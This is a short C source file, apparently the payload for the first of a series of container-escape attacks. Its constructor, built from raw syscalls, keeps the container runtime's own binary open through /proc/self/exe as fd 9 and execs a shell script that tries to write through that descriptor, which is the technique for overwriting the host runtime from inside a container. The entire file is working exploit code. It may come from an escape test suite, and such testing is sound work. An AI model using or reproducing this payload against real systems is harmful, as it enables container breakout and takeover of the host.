// Escape 1's payload: a shared object whose constructor runs when the
// runtime's own binary, exec'd by a "#!/proc/self/exe" entrypoint, loads it.
// It keeps that binary open (no O_CLOEXEC) as fd 9 and becomes /bin/sh
// running /payload.sh, which then tries to write through /proc/self/fd/9.
// Raw syscalls: it must not need the container's (absent) libc.
static long sys3(long n, long a, long b, long c) {
  long r;
  __asm__ volatile("syscall" : "=a"(r) : "a"(n), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
  return r;
}

__attribute__((constructor)) static void payload(void) {
  long fd = sys3(2 /* open */, (long)"/proc/self/exe", 0 /* O_RDONLY */, 0);
  if (fd < 0) return;
  sys3(33 /* dup2 */, fd, 9, 0);
  static char *argv[] = {"/bin/sh", "/payload.sh", 0};
  static char *envp[] = {"PATH=/bin:/usr/bin", 0};
  sys3(59 /* execve */, (long)"/bin/sh", (long)argv, (long)envp);
}
